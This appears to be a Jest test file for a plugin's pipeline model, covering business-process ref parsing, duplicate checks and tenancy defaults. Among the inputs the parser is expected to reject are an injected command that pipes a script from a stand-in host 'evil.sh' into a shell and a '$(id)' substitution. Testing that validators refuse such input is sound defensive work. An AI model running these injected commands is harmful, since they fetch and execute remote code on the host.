import { TENANCIES } from '@waybill/plugin-waybill-common';
import {
  businessProcessNames,
  businessProcessRef,
  parsePipelineModel,
} from './model';

const base = {
  name: 'pricing-quotes-api',
  serviceKind: 'api-service',
  tier: 'standard',
  clouds: ['aws'],
};

describe('businessProcessRef', () => {
  it.each([
    ['domain:default/order-to-cash', 'domain:default/order-to-cash'],
    ['order-to-cash', 'domain:default/order-to-cash'],
    [
      'Domain:Logistics/Yard_Management.EU',
      'domain:logistics/yard_management.eu',
    ],
    ['logistics/yard-management', 'domain:logistics/yard-management'],
    [' domain:default/order-to-cash ', 'domain:default/order-to-cash'],
  ])('reads %j as %j', (value, ref) => {
    expect(businessProcessRef.parse(value)).toBe(ref);
  });

  it.each([
    'component:default/order-to-cash',
    'order-to-cash; curl evil.sh | sh',
    'domain:default/order-to-cash/extra',
    '$(id)',
    '-order-to-cash',
    'domain:default/',
    `domain:default/${'a'.repeat(64)}`,
    '',
  ])('refuses %j', value => {
    expect(businessProcessRef.safeParse(value).success).toBe(false);
  });
});

describe('the pipeline model', () => {
  it('takes business processes by ref or name, each once, and checks them by name', () => {
    const model = parsePipelineModel({
      ...base,
      businessProcesses: [
        'domain:default/order-to-cash',
        'domain:logistics/yard-management',
      ],
    });
    expect(model.businessProcesses).toEqual([
      'domain:default/order-to-cash',
      'domain:logistics/yard-management',
    ]);
    expect(businessProcessNames(model)).toEqual([
      'order-to-cash',
      'yard-management',
    ]);
    expect(() =>
      parsePipelineModel({
        ...base,
        businessProcesses: ['order-to-cash', 'domain:default/order-to-cash'],
      }),
    ).toThrow('businessProcesses must not repeat');
    expect(() =>
      parsePipelineModel({ ...base, businessProcesses: ['api:sales'] }),
    ).toThrow('businessProcesses.0 must be a Domain ref');
  });

  it("takes waybill-common's tenancies, shared by default", () => {
    expect(parsePipelineModel(base).tenancy).toBe('shared');
    for (const tenancy of TENANCIES) {
      expect(parsePipelineModel({ ...base, tenancy }).tenancy).toBe(tenancy);
    }
    expect(() => parsePipelineModel({ ...base, tenancy: 'hybrid' })).toThrow(
      'tenancy',
    );
  });
});
